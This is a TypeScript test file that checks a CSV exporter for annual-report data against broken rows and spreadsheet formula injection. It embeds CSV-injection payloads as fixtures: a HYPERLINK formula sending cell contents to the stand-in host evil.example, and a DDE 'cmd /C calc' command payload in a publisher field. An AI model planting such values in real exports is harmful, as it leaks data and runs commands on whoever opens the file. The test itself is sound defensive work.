/**
 * Attacks 4 and 5: CSV rows broken by a CR or LF in a field, and spreadsheet formulas in text fields.
 * File names and crawled titles are attacker-controlled; every CSV must parse back to one row per
 * record (RFC 4180) and no text field may start a formula, while numbers stay numbers.
 */
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runExtract } from '../../../src/extract-run.js';
import { expandInputs } from '../../../src/sources/inputs.js';
import { csvLines } from '../../../src/writers/csv-writer.js';
import { CORPUS } from '../../corpus/truth.js';
import { parseCsv, physicalLines } from './rfc4180.js';

const NAMES = ['line\nbreak.txt', 'carriage\rreturn.txt', 'both\r\nkinds.txt', '=HYPERLINK("http:⁄⁄evil")&A1.txt', '+1+2.txt', '-3+4.txt', '@SUM(1).txt', 'quote",comma.txt'];
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

let input: string;
let out: string;

beforeAll(async () => {
  input = await mkdtemp(join(tmpdir(), 'nianbao-csv-in-'));
  out = await mkdtemp(join(tmpdir(), 'nianbao-csv-out-'));
  const glued = await readFile(join(CORPUS, 'variety/pingtan-2023-glued.txt'), 'utf8');
  const hostile = glued
    .replace(/^标题:.*$/m, '标题: =HYPERLINK("http://evil.example/?"&A1,"平潭综合实验区2023年度政府信息公开工作年度报告")')
    .replace(/^发布机构:.*$/m, '发布机构: @SUM(1+1)*cmd|\' /C calc\'!A0');
  // Distinct bytes per file, so each is its own record rather than a duplicate of the first.
  await Promise.all(NAMES.map((name, i) => writeFile(join(input, name), `${hostile}\n${'。'.repeat(i + 1)}\n`)));
}, 60_000);

afterAll(async () => {
  for (const dir of [input, out]) await rm(dir, { recursive: true, force: true });
});

describe('CSV datasets with hostile names and titles', () => {
  it('writes one parsed row per record in every CSV, with every CR and LF inside quotes', async () => {
    const { items } = await expandInputs([input]);
    expect(items).toHaveLength(NAMES.length);
    await runExtract(items, { outDir: out, workers: 0 });
    const files = (await readdir(out)).filter((name) => name.endsWith('.csv'));
    expect(files).toEqual(expect.arrayContaining(['reports.csv', 'cells.csv', 'wide.csv', 'findings.csv', 'year_checks.csv']));
    const reports = parseCsv(await readFile(join(out, 'reports.csv'), 'utf8'));
    expect(reports).toHaveLength(1 + NAMES.length);
    const sourceColumn = reports[0].indexOf('source');
    expect(reports.slice(1).map((row) => row[sourceColumn]).sort()).toEqual(
      NAMES.map((name) => join(input, name)).map((source) => (FORMULA_START.test(source) ? `'${source}` : source)).sort(),
    );
    for (const file of files) {
      const text = await readFile(join(out, file), 'utf8');
      const rows = parseCsv(text);
      for (const row of rows) expect(row, file).toHaveLength(rows[0].length);
      // The names with line breaks made more physical lines than rows: they are inside quotes.
      if (file === 'reports.csv') expect(physicalLines(text.slice(1))).toBeGreaterThan(rows.length);
    }
  });

  it('neutralises every text field that a spreadsheet would run as a formula, in every CSV', async () => {
    for (const file of (await readdir(out)).filter((name) => name.endsWith('.csv'))) {
      for (const row of parseCsv(await readFile(join(out, file), 'utf8'))) {
        for (const field of row) expect(FORMULA_START.test(field), `${file}: ${field}`).toBe(false);
      }
    }
    const reports = parseCsv(await readFile(join(out, 'reports.csv'), 'utf8'));
    const title = reports[0].indexOf('title');
    expect(reports[1][title]).toMatch(/^'=HYPERLINK/);
  });

  it('keeps numbers as numbers: the cells are unquoted digits, and a negative number is not prefixed', async () => {
    const cells = parseCsv(await readFile(join(out, 'cells.csv'), 'utf8'));
    const value = cells[0].indexOf('value');
    const values = cells.slice(1).map((row) => row[value]).filter((v) => v !== '');
    expect(values.length).toBeGreaterThan(50);
    for (const v of values) expect(v).toMatch(/^\d+(\.\d+)?$/);
    expect(csvLines([[-3, '-3', '=1+1', 'plain', 0]])).toBe("-3,'-3,'=1+1,plain,0\r\n");
  });
});
